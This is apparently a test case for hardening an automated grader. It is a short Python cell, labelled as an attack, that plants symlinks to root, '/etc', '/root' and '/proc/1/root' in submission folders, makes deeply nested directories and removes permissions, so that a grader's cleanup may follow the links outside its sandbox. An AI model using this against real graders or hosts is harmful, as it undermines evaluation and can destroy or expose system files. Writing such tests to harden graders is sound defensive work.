# attack: links to the course's files where the grader may follow them when it cleans up
# told: RuntimeError: linked
# %%
import os

for number, target in enumerate(("/", "/etc", "/root", "/proc/1/root", "/work", "../../..")):
    os.symlink(target, f"link-{number}")
    os.symlink(target, f"/submission/tmp/link-{number}")
os.makedirs("a/" * 200, exist_ok=True)
os.chmod(".", 0)
raise RuntimeError("linked")
